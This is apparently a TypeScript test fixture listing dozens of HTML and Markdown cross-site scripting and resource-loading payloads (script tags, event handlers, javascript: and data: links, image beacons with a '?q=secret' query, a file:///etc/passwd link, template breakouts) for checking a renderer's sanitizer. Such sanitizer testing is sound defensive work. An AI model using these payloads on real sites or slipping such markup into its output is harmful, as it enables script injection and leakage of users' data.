/** Calls home or runs: `HOST` is a listener of the test, `__ran` a flag in the page. */
const RUN = 'window.__ran=1';

/** Markup and Markdown that would run a script or load something if any renderer trusted it. */
export function payloads(host: string): readonly string[] {
  return [...tags(host), ...handlers(host), ...links(), ...images(host), ...breakouts(host)];
}

function tags(host: string): string[] {
  return [
    `<script>${RUN}</script>`,
    `<script src="${host}/a.js"></script>`,
    `<ScRiPt>${RUN}</sCrIpT>`,
    `<script\n>${RUN}</script\n>`,
    `<<script>${RUN}//<</script>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="${host}/b.js"/></svg>`,
    `<math><mtext><script>${RUN}</script></mtext></math>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
    `<iframe src="${host}/frame"></iframe>`,
    `<object data="${host}/object"></object>`,
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="${host}/embed">`,
    `<link rel="stylesheet" href="${host}/style.css">`,
    `<link rel="prefetch" href="${host}/prefetch">`,
    `<meta http-equiv="refresh" content="0;url=${host}/refresh">`,
    `<base href="${host}/">`,
    `<style>@import url(${host}/import.css);</style>`,
    `<style>body{background:url(${host}/bg.png)}</style>`,
    `<form action="${host}/form"><button>x</button></form>`,
    `<template><script>${RUN}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    `<textarea><img src=x onerror=${RUN}></textarea>`,
    `<xmp><img src=x onerror=${RUN}></xmp>`,
    `<video><source src="${host}/v.mp4" onerror="${RUN}"></video>`,
    `<audio src="${host}/a.mp3" autoplay></audio>`,
    `<video poster="${host}/poster.png"></video>`,
    `<portal src="${host}/portal"></portal>`,
    `<details open ontoggle=${RUN}>x</details>`,
  ];
}

function handlers(host: string): string[] {
  const events = [
    'onerror',
    'onload',
    'onmouseover',
    'onfocus',
    'onanimationstart',
    'ontransitionend',
    'onpointerenter',
    'onwheel',
  ];
  return [
    ...events.map((event) => `<img src=x ${event}="${RUN}">`),
    ...events.map((event) => `<svg ${event}=${RUN}><rect width=9 height=9></svg>`),
    `<body onload=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<select autofocus onfocus=${RUN}><option>x</select>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    `<div style="width:expression(${RUN})">x</div>`,
    `<div style="background:url(${host}/div.png)">x</div>`,
    `<a href="#" onclick="${RUN}" style="position:fixed;inset:0">x</a>`,
    `<img src=\`x\`onerror=${RUN}>`,
    `<img/src/onerror=${RUN}>`,
    `<img src="x" onerror="&#119;indow.__ran=1">`,
  ];
}

function links(): string[] {
  const schemes = [
    `javascript:${RUN}`,
    `JavaScript:${RUN}`,
    `java\tscript:${RUN}`,
    `&#106;avascript:${RUN}`,
    `javascript&colon;${RUN}`,
    `javascript%3A${RUN}`,
    ` javascript:${RUN}`,
    `vbscript:${RUN}`,
    `data:text/html,<script>opener.__ran=1</script>`,
    `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19yYW49MTwvc2NyaXB0Pg==`,
    `blob:${RUN}`,
    `file:///etc/passwd`,
  ];
  return [
    ...schemes.map((scheme) => `[click me](<${scheme}>)`),
    ...schemes.map((scheme) => `[click me][r]\n\n[r]: <${scheme}>`),
    ...schemes.slice(0, 6).map((scheme) => `<a href="${scheme}">click me</a>`),
    `<javascript:${RUN}>`,
    `[a](javascript:${RUN} "title")`,
    `[![x](x)](javascript:${RUN})`,
  ];
}

function images(host: string): string[] {
  return [
    `![a](${host}/inline.png)`,
    `![a](${host}/inline.png?q=secret "title")`,
    `![a][i]\n\n[i]: ${host}/reference.png`,
    `![${host}/alt](${host}/alt.png)`,
    `[![a](${host}/nested.png)](${host}/outer)`,
    `<img src="${host}/html.png">`,
    `<img srcset="${host}/srcset.png 2x">`,
    `<picture><source srcset="${host}/picture.png"><img></picture>`,
    `<svg><image href="${host}/svg.png"/></svg>`,
    `<svg><use href="${host}/use.svg#a"/></svg>`,
    `![a](//${host.replace(/^https?:\/\//, '')}/protocol.png)`,
    `![a](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__ran=1"/>)`,
    `| a |\n|---|\n| ![t](${host}/table.png) |`,
    `> ![q](${host}/quote.png)`,
    `- ![l](${host}/list.png)`,
    `<table background="${host}/table-bg.png"><tr><td>x</td></tr></table>`,
  ];
}

function breakouts(host: string): string[] {
  return [
    `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
    `\`\`\`html\n<img src=x onerror=${RUN}>\n\`\`\``,
    `\`\`\`ts onload=${RUN}\nx\n\`\`\``,
    `\`<img src=x onerror=${RUN}>\``,
    `"><img src=x onerror=${RUN}>`,
    `'-${RUN}-'`,
    `\${${RUN}}`,
    `{{constructor.constructor('${RUN}')()}}`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `<?xml-stylesheet href="${host}/xsl"?>`,
    `$$\\href{javascript:${RUN}}{x}$$`,
    `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
    `\u202e<script>${RUN}</script>`,
    `</p></div></article><img src=x onerror=${RUN}>`,
    `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"]\n\`\`\``,
  ];
}
